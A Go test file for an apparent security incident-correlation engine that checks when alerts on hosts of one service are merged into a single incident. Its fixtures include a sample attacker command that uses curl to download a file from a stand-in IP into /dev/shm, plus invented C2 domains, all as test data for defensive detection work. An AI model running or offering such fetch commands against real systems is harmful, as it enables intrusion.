package incident

import (
	"cmp"
	"fmt"
	"slices"
	"testing"

	"pgregory.net/rapid"

	"baize/internal/alert"
	"baize/internal/event"
	"baize/internal/label"
)

// on puts an alert on a host of a service.
func on(host, service string, a *alert.Alert) *alert.Alert {
	a.Host = event.Host{ID: host, Name: "n-" + host}
	a.Labels = label.Labels{Service: service, Owner: "ann"}
	return a
}

func fetches(tool string) alert.Entity {
	return alert.Entity{Type: alert.EntityCommand, Value: "sh -c " + tool + " --into /dev/shm/x https://203.0.113.9/a", Role: "subject"}
}

// oneHand shows one hand in two ways, which suffice on hosts of one service alone.
func oneHand() []alert.Entity {
	return []alert.Entity{written("/dev/shm/databus1"), comesFrom("203.0.113.5")}
}

func comesFrom(address string) alert.Entity {
	return alert.Entity{Type: alert.EntityIP, Value: address, Role: RoleSource}
}

// TestHostsOfOneServiceNeedOneHand: what shows one hand in two ways joins alerts on two
// hosts of a service where it alone would not. One way, or what such hosts share anyway, does
// not, nor a hand on one host or on hosts of different services.
func TestHostsOfOneServiceNeedOneHand(t *testing.T) {
	account := alert.Entity{Type: alert.EntityAccount, Value: "shop"}
	key := alert.Entity{Type: alert.EntityKey, Value: "SHA256:k"}
	name := written("/dev/shm/databus1")
	source := comesFrom("203.0.113.5")
	for what, c := range map[string]struct {
		shared        []alert.Entity
		host, service string
		one           bool
	}{
		"nothing":              {},
		"a command":            {shared: []alert.Entity{fetches("curl")}},
		"a command, a name":    {shared: []alert.Entity{fetches("curl"), name}},
		"a source":             {shared: []alert.Entity{source}},
		"a name, a source":     {shared: []alert.Entity{name, source}, one: true},
		"an account":           {shared: []alert.Entity{account}},
		"a key, an account":    {shared: []alert.Entity{key, account}},
		"a source, an account": {shared: []alert.Entity{source, account}},
		"a name, an account":   {shared: []alert.Entity{name, account}},
		"on one host":          {shared: []alert.Entity{name, source}, host: "h1"},
		"of another service":   {shared: []alert.Entity{name, source}, service: "pay"},
	} {
		m := newMerger()
		first := add(m, on("h1", "shop", high("a", "A", c.shared...)))
		second := add(m, on(cmp.Or(c.host, "h2"), cmp.Or(c.service, "shop"), high("b", "B", c.shared...)))
		if (first == second) != c.one {
			t.Errorf("%s: %s and %s", what, first, second)
		}
		if chain := m.Explain("a", "b"); c.one && (len(chain) != 1 || chain[0].Reason != "source+sibling+path_template" || chain[0].Entity != "203.0.113.5; shop; /dev/shm/databus<n>") {
			t.Errorf("%s: %+v", what, chain)
		}
	}
}

// TestTwoIntrudersOnHostsOfOneServiceStayTwo: each on several hosts of the service, at
// once, with what two strangers may share: a public technique, an account, a key; over a
// restart.
func TestTwoIntrudersOnHostsOfOneServiceStayTwo(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		m := New(DefaultConfig(), NewGiven(nil))
		account, key := alert.Entity{Type: alert.EntityAccount, Value: "shop"}, alert.Entity{Type: alert.EntityKey, Value: "SHA256:k"}
		shared := rapid.SampledFrom([][]alert.Entity{{fetches("curl")}, {fetches("curl"), account}, {key, account}, {written("/dev/shm/databus1"), account}}).Draw(rt, "shared")
		of := map[string]string{}
		for i := range rapid.IntRange(2, 40).Draw(rt, "alerts") {
			who := rapid.SampledFrom([]string{"curl", "wget"}).Draw(rt, "who")
			host := fmt.Sprint("h", rapid.IntRange(1, 6).Draw(rt, "host"))
			a := on(host, "shop", high(fmt.Sprint("a", i), who+host, shared...))
			a.Entities = slices.Clone(shared)
			if rapid.Bool().Draw(rt, "hand") {
				a.Entities = append(a.Entities, comesFrom(map[string]string{"curl": "203.0.113.1", "wget": "203.0.113.2"}[who]))
			}
			if i == 20 {
				m = reborn(rt, m)
			}
			add(m, a)
			of[a.ID] = who
		}
		whose := map[string]string{}
		for id, who := range of {
			in := m.IncidentOf(id)
			if other := whose[in]; other != "" && other != who {
				rt.Fatalf("%s has alerts of both", in)
			}
			whose[in] = who
		}
	})
}

// TestALargeServiceGluesNothing: 500 intruders on 500 hosts of one service stay 500, also
// where they use one public technique, and so does what all its hosts do alike.
func TestALargeServiceGluesNothing(t *testing.T) {
	const hosts = 500
	m := newMerger()
	seen := map[string]bool{}
	for i := range hosts {
		host := fmt.Sprint("h", i)
		own := []alert.Entity{{Type: alert.EntityDomain, Value: fmt.Sprintf("c2-%d.example", i)}, comesFrom(fmt.Sprintf("203.0.%d.%d", 113+i/250, i%250))}
		own = append(own, fetches("curl"), alert.Entity{Type: alert.EntityAccount, Value: "shop"})
		seen[add(m, on(host, "shop", high(fmt.Sprint("a", i), fmt.Sprint("L", i), own...)))] = true
		seen[add(m, on(host, "shop", high(fmt.Sprint("check", i), fmt.Sprint("C", i), fetches("check"))))] = true
	}
	if len(seen) != 2*hosts {
		t.Errorf("%d intruders and as many checks are %d incidents", hosts, len(seen))
	}
}

// TestAnIncidentKnowsItsSiblings: the hosts of its services that it has not hit, as they
// become known and are hit.
func TestAnIncidentKnowsItsSiblings(t *testing.T) {
	d := label.NewDirectory()
	m := newMerger()
	m.Siblings = d.Siblings
	of := func(id string) (said string) {
		for _, inc := range m.Drain(true) {
			if inc.ID == id {
				said = fmt.Sprintf("%v %v", inc.Labels, inc.Siblings)
			}
		}
		return said
	}
	shop := label.Assignment{Kind: label.KindHost, Match: "h*", Labels: label.Labels{Service: "shop", Owner: "ann"}}
	shop.Identify()
	changed, err := d.Assign([]label.Assignment{shop}, 0)
	if err != nil || len(changed) != 0 {
		t.Fatal(err, changed)
	}
	d.Saw("", event.Host{ID: "h1", Name: "n-h1"}, "", 0)
	d.Saw("", event.Host{ID: "h2", Name: "n-h2"}, "", 0)
	m.Resibling(d.Publish(0))
	id := add(m, on("h1", "shop", high("a", "A", oneHand()...)))
	if got, want := of(id), "[{shop ann }] [{{h2 n-h2} shop}]"; got != want {
		t.Errorf("%s, want %s", got, want)
	}
	d.Saw("", event.Host{ID: "h3", Name: "n-h3"}, "", 0)
	if m.Resibling(d.Publish(0)); of(id) != "[{shop ann }] [{{h2 n-h2} shop} {{h3 n-h3} shop}]" {
		t.Error("a host that came is no sibling")
	}
	if add(m, on("h2", "shop", high("b", "B", oneHand()...))) != id || of(id) != "[{shop ann }] [{{h3 n-h3} shop}]" {
		t.Error("a host that was hit is still a sibling")
	}
	if m.Resibling([]label.Service{{Name: "pay"}, {Org: "o", Name: "shop"}}); of(id) != "" {
		t.Error("an incident changed with another service")
	}
}

// TestLabelsThatGoCutWhatTheyHeld: relabelled alerts show it, and what only their labels
// held together is cut anew; so is what a rejected label held.
func TestLabelsThatGoCutWhatTheyHeld(t *testing.T) {
	make2 := func() *Merger {
		m := newMerger()
		add(m, on("h1", "shop", high("a", "A", oneHand()...)))
		add(m, on("h2", "shop", high("b", "B", oneHand()...)))
		add(m, on("h2", "shop", high("c", "B")))
		if m.IncidentOf("a") != m.IncidentOf("c") {
			t.Fatal("not one")
		}
		m.Drain(true)
		return m
	}
	m := make2()
	m.Relabel(func(_ string, h event.Host, _ string) label.Labels {
		return map[string]label.Labels{"h1": {Service: "shop"}, "h2": {Service: "pay"}}[h.ID]
	}, start.UnixNano())
	out := m.Drain(true)
	if m.IncidentOf("a") == m.IncidentOf("b") || m.IncidentOf("b") != m.IncidentOf("c") || len(out) != 2 {
		t.Fatalf("%+v", out)
	}
	for _, inc := range out {
		want := map[string]string{m.IncidentOf("a"): "[{shop  }]", m.IncidentOf("b"): "[{pay  }]"}[inc.ID]
		if got := fmt.Sprint(inc.Labels); got != want {
			t.Errorf("%s: %s, want %s", inc.ID, got, want)
		}
	}
	m = make2()
	m.Relabel(func(string, event.Host, string) label.Labels { return label.Labels{Service: "shop", Owner: "bob"} }, start.UnixNano())
	if out := m.Drain(true); m.IncidentOf("a") != m.IncidentOf("b") || len(out) != 1 || out[0].Labels[0].Owner != "bob" {
		t.Errorf("another owner: %+v", out)
	}
	m = make2()
	decide(t, m, Decision{ID: "d", Kind: DecideReject, Reason: ReasonSibling, Of: "shop"})
	if m.IncidentOf("a") == m.IncidentOf("b") || m.IncidentOf("b") != m.IncidentOf("c") {
		t.Error("a rejected service holds together")
	}
}
